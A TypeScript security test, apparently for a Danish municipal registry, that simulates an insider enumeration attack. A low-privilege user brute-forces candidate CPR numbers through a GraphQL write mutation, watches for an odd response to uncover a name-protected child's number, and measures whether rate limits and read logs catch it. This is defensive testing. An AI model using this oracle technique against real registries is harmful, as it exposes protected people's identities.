import {
  type Asked,
  askedAs,
  cpr,
  enhed,
  kilde,
  kommune,
  linesOf,
  type Payload,
  putChild,
  told,
} from './protected-child.ts';
import { startAttacked, type Target } from './target.ts';

/** The attacker knows the child's birth date, as many do. Born after 2000: the seventh digit is 4 or more. Given in an order that has the child's number not among the first. */
const guesses = Array.from({ length: 6000 }, (_, n) => `660521${4000 + n}`);
const rowsInCall = 200;

/** With the limits as they are, and without: then the answers alone stand between the attacker and the number. */
const limits = {
  'as it comes': {},
  'without limits of CPR numbers': Object.fromEntries(
    ['', 'ALL_'].flatMap((of) => ['DAY', 'YEAR'].map((time) => [`CPR_BIRTHDAY_${of}PER_${time}`, '100000'])),
  ),
};

/**
 * Who may write people of a municipality, but not see the protected, tries to find a protected child's number by writes
 * that store: externs with one likely number after the other. One whose answer is another than the rest is the child's.
 */
export async function attack(target: Target): Promise<void> {
  for (const [how, settings] of Object.entries(limits)) await attackWith(target, how, settings);
}

async function attackWith(target: Target, how: string, settings: Record<string, string>): Promise<void> {
  const usual = { SAMPLE: 'small', REGISTER_MODE: 'sandbox', ENVIRONMENT: 'development' };
  const attacked = await startAttacked(target, { ...usual, ...settings });
  try {
    const as = (...roles: string[]) => askedAs(attacked, kommune, roles);
    await putChild(await as('kommunal', 'navnebeskyttelse'));
    const owner = await as('databeskyttelse');
    const attacker = await as('kommunal');
    const [before, began] = [await linesOf(owner, 'person:kommunal'), performance.now()];
    const { requests, numbers, found } = await guess(attacker);
    const seconds = ((performance.now() - began) / 1000).toFixed(1);
    const lines = (await linesOf(owner, 'person:kommunal')) - before;
    console.log(
      `the CPR number by writes of externs, ${how}: ${found}; ${numbers} numbers taken in ${requests} requests, ${seconds} s, ${lines} lines in the read log`,
    );
  } finally {
    await attacked.stop();
  }
}

interface Outcome {
  requests: number;
  numbers: number;
  found: string;
}

/** Where too many numbers are refused, fewer are given, down to one. */
async function guess(ask: Asked): Promise<Outcome> {
  let [requests, numbers, size] = [0, 0, rowsInCall];
  while (numbers < guesses.length) {
    const given = guesses.slice(numbers, numbers + size);
    const answer = (await ask(write, { rows: given.map(ekstern) }))?.it;
    requests++;
    if (answer?.errors.some(({ code }) => code === 'CPR_LIMIT')) {
      if (size === 1) return { requests, numbers, found: 'stopped by CPR_LIMIT, not found' };
      size = Math.ceil(size / 2);
      continue;
    }
    numbers += given.length;
    const odd = oddRow(answer, given.length);
    if (odd !== null) return { requests, numbers, found: `found: ${given[odd] === cpr}` };
  }
  return { requests, numbers, found: 'not found' };
}

const write = `mutation ($rows: [TilknytningRowInput!]!) {
  it: applyTilknytninger(input: { kilde: "${kilde}", rows: $rows, skipRefused: false }) { ${told} } }`;

const ekstern = (number: string) => ({
  ekstern: {
    ...{ enhed, lokalId: `p${number.slice(6)}`, rolle: 'Ekstern' },
    person: { cpr: number, fornavn: 'Xy', efternavn: 'Zzy' },
  },
});

/** The row of which the answer speaks otherwise than of the others: in an error, or since it makes nobody new. */
function oddRow(answer: Payload | undefined, count: number): number | null {
  const [error] = answer?.errors ?? [];
  if (error) return Number(error.path[1]);
  const persons = answer?.changes.filter(({ objectKind }) => objectKind === 'PERSON') ?? [];
  const odd = persons.findIndex(({ action }) => action !== 'create');
  return odd >= 0 ? odd : persons.length < count ? persons.length : null;
}
